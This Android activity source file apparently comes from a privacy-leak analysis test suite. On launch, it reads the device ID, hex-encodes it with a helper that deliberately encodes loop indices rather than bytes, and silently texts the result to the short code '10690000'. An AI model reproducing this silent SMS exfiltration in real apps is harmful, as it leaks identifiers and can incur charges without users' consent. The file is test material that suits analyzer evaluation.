package cn.privlens.suite.hex_loop_indices;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static final char[] HEX = "0123456789abcdef".toCharArray();
    private static String hex(byte[] in) {
        char[] out = new char[in.length * 2];
        for (int i = 0; i < in.length; i++) {
            int b = i & 255;
            out[2 * i] = HEX[b >>> 4];
            out[2 * i + 1] = HEX[b & 15];
        }
        return new String(out);
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, hex(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes()), null, null);
    }
}
